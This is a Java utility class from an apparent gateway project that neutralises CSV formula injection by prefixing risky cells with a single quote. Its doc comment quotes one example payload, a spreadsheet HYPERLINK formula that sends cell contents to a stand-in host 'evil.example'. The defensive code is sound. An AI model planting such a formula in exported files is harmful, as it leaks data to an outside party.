package io.portcullis.store;

/**
 * Cells of the CSV files the gateway writes (the tracking export), safe to open in a spreadsheet. A cell that starts
 * with {@code = + - @}, a tab or a carriage return would be read as a formula (a subject
 * {@code =HYPERLINK("http://evil.example/?"&A1,"x")} sends the sheet's content away when clicked): such a cell is
 * written with a single quote in front, which spreadsheets show as text and do not evaluate. Quoting and escaping of
 * the CSV itself stay with the CSV printer. Every CSV the gateway writes passes its values through {@link #cells}.
 */
public final class CsvCells {
    private CsvCells() {
    }

    /** {@code value} as a cell that no spreadsheet evaluates; null stays null. */
    public static String cell(String value) {
        if (value == null || value.isEmpty()) {
            return value;
        }
        char first = value.charAt(0);
        boolean formula = first == '=' || first == '+' || first == '-' || first == '@' || first == '\t' || first == '\r';
        return formula ? "'" + value : value;
    }

    /** Every value as a cell ({@link #cell}, after {@code String.valueOf} for values that are not text; null stays null). */
    public static Object[] cells(Object... values) {
        Object[] cells = new Object[values.length];
        for (int i = 0; i < values.length; i++) {
            cells[i] = values[i] == null ? null : cell(String.valueOf(values[i]));
        }
        return cells;
    }
}
